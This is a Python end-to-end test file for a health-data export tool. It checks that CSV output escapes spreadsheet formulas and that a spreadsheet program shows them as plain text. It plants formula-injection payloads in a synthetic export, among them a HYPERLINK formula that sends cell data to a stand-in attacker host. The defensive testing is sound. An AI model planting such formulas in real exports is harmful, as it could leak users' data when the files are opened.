"""Export text never becomes a spreadsheet formula (Pipelines/docs/outputs.md, "Values").

An export whose sources, versions, devices, time zone and route name are formulas
(`=HYPERLINK(...)`, `=1+1`, `+1+1`, `-1+1`, `@SUM(1,1)`) goes through the default pipeline and
`Pipelines/samples.json`. Every CSV cell that held such text starts with `'`, and a real
spreadsheet program (Gnumeric's `ssconvert`, which `make test` installs) opening each CSV shows the
text as written: nothing is computed. Numbers, including negative raw values, are left untouched.

The binary is `e2e.binary()`: `HEALTHETL_BIN` (set by `make test-e2e`), else the release build, else
the debug build.
"""

from __future__ import annotations

import csv
import shutil
import subprocess
import sys
import tempfile
import unittest
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
from e2e import REPO, binary, csv_rows  # noqa: E402

FORMULAS = ['=HYPERLINK("http://evil.example/?d="&B2, "Details")', "=1+1", "+1+1", "-1+1", "@SUM(1,1)"]


def attribute(text: str) -> str:
    return text.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;")


def hostile_export() -> str:
    source, version, device_name, zone, route = (attribute(f) for f in FORMULAS)
    device = attribute(f"<<HKDevice: 0x1>, name:{FORMULAS[3]}, manufacturer:Apple Inc., model:{FORMULAS[4]}, "
                       "hardware:Watch6,2, software:10.1>")
    day = "2024-03-18"
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<HealthData locale="en_US">
 <ExportDate value="2024-03-20 08:00:00 +0100"/>
 <Record type="HKCategoryTypeIdentifierSleepAnalysis" sourceName="{source}" sourceVersion="{version}" startDate="2024-03-17 23:00:00 +0100" endDate="{day} 06:30:00 +0100" value="HKCategoryValueSleepAnalysisAsleepCore"/>
 <Record type="HKQuantityTypeIdentifierStepCount" sourceName="{source}" sourceVersion="{version}" device="{device}" unit="count" startDate="{day} 10:00:00 +0100" endDate="{day} 10:05:00 +0100" value="512"/>
 <Record type="HKQuantityTypeIdentifierHeartRate" sourceName="{source}" unit="count/min" startDate="{day} 10:00:00 +0100" endDate="{day} 10:00:00 +0100" value="71"/>
 <Record type="HKQuantityTypeIdentifierAppleSleepingWristTemperature" sourceName="{device_name}" unit="degC" startDate="{day} 11:00:00 +0100" endDate="{day} 11:01:00 +0100" value="-1"/>
 <Workout workoutActivityType="HKWorkoutActivityTypeRunning" duration="30" durationUnit="min" sourceName="{source}" sourceVersion="{version}" device="{device}" startDate="{day} 18:00:00 +0100" endDate="{day} 18:30:00 +0100">
  <MetadataEntry key="HKTimeZone" value="{zone}"/>
  <WorkoutStatistics type="HKQuantityTypeIdentifierDistanceWalkingRunning" startDate="{day} 18:00:00 +0100" endDate="{day} 18:30:00 +0100" sum="5" unit="km"/>
  <WorkoutRoute sourceName="{source}" startDate="{day} 18:00:00 +0100" endDate="{day} 18:30:00 +0100">
   <FileReference path="/workout-routes/{route}.gpx"/>
  </WorkoutRoute>
 </Workout>
</HealthData>
"""


def cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


class CSVInjectionTests(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        healthetl = binary()
        cls.tmp = tempfile.TemporaryDirectory()
        root = Path(cls.tmp.name)
        export = root / "export.xml"
        export.write_text(hostile_export(), encoding="utf-8")
        cls.out = root / "out"
        for pipeline in ("default.json", "samples.json"):
            run = subprocess.run([healthetl, "run", "--quiet", "--pipeline", str(REPO / "Pipelines" / pipeline),
                                  "--no-workbook", "--out", str(cls.out / pipeline), str(export)],
                                 capture_output=True, text=True, timeout=300)
            assert run.returncode == 0, run.stderr
        cls.csvs = sorted(cls.out.rglob("*.csv"))

    @classmethod
    def tearDownClass(cls):
        cls.tmp.cleanup()

    def test_every_formula_cell_starts_with_a_quote(self):
        seen = set()
        for path in self.csvs:
            for cell in cells(path):
                for formula in FORMULAS:
                    if formula in cell:
                        seen.add((path.name, formula))
                        self.assertFalse(cell[0] in "=+-@\t\r", f"{path.name}: {cell!r}")
                        if cell.startswith(formula[0]) or cell.startswith("'" + formula[0]):
                            self.assertTrue(cell.startswith("'"), f"{path.name}: {cell!r}")
        names = {name for name, _ in seen}
        # The places the formulas were planted in: sleep, workouts and every sample column.
        for name in ("sleep_daily.csv", "sleep_sessions.csv", "workouts.csv", "StepCount.csv",
                     "AppleSleepingWristTemperature.csv"):
            self.assertIn(name, names)
        self.assertEqual({f for _, f in seen}, set(FORMULAS))

    def test_numbers_are_untouched(self):
        rows = csv_rows(self.out / "samples.json/samples/AppleSleepingWristTemperature.csv")
        self.assertEqual((rows[0]["value"], rows[0]["raw_value"]), ("-1", "-1"))
        self.assertEqual(rows[0]["source"], "'+1+1")

    @unittest.skipUnless(shutil.which("ssconvert"), "Gnumeric's ssconvert is not installed (make workbook-deps)")
    def test_a_spreadsheet_program_shows_the_text_and_computes_nothing(self):
        opened_any = 0
        for path in self.csvs:
            planted = [formula for formula in FORMULAS if formula in path.read_text(encoding="utf-8")
                       or formula.replace('"', '""') in path.read_text(encoding="utf-8")]
            if not planted:
                continue
            shown = path.with_suffix(".shown.csv")
            subprocess.run(["ssconvert", str(path), str(shown)], check=True, capture_output=True, timeout=120)
            # Gnumeric guesses the separator from the file (the `, ` inside the HYPERLINK can
            # mislead it), so compare text, not cell positions: a formula it had computed would
            # be gone, replaced by its value ("Details", 2, 0). Where it split the line elsewhere
            # than at the commas, the quotes stay doubled.
            text = "\n".join(cells(shown)).replace('""', '"')
            for formula in planted:
                self.assertIn(formula, text, path.name)
            opened_any += 1
        self.assertGreaterEqual(opened_any, 5)

    def test_the_check_fails_on_an_unguarded_file(self):
        """The property above catches a live formula: Gnumeric computes `=1+1` without the quote."""
        if not shutil.which("ssconvert"):
            self.skipTest("Gnumeric's ssconvert is not installed (make workbook-deps)")
        raw = Path(self.tmp.name) / "raw.csv"
        raw.write_text("a,b\n=1+1,x\n", encoding="utf-8")
        shown = raw.with_suffix(".shown.csv")
        subprocess.run(["ssconvert", str(raw), str(shown)], check=True, capture_output=True, timeout=120)
        self.assertEqual(cells(shown), ["a", "b", "2", "x"])
